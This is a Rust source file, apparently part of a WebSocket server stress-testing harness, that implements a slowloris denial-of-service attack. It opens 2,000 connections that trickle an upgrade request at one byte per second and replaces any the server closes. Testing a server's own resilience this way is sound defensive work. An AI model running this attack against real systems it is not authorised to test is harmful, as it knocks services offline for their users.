//! `slowloris`: 2,000 connections each trickling a WebSocket upgrade
//! request at 1 byte per second (the request would take minutes to
//! finish). A connection the server closes is replaced (twice at most).

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::Instant;

use super::attack::Attack;
use super::raw;

pub(super) const SUMMARY: &str =
    "2,000 connections trickling an upgrade request at 1 byte/s; replaced when closed";

/// Connections at once.
const SOCKETS: usize = 2_000;

pub(super) async fn run(attack: &Attack) {
    let request = raw::upgrade_request(&attack.target.addr.to_string());
    raw::hold(attack, SOCKETS, |_, mut stream: TcpStream| {
        let request = request.as_bytes();
        async move {
            let (mut read, mut write) = stream.split();
            let trickle = async {
                let mut next = Instant::now();
                for byte in request {
                    match attack.bounded(write.write_all(&[*byte])).await {
                        Some(Ok(())) => attack.effort.sent_frame(1),
                        _ => return,
                    }
                    next += Duration::from_secs(1);
                    attack.bounded(tokio::time::sleep_until(next)).await;
                }
            };
            tokio::select! {
                () = trickle => {}
                _ = raw::closed_by_server(attack, &mut read) => {}
            }
        }
    })
    .await;
}
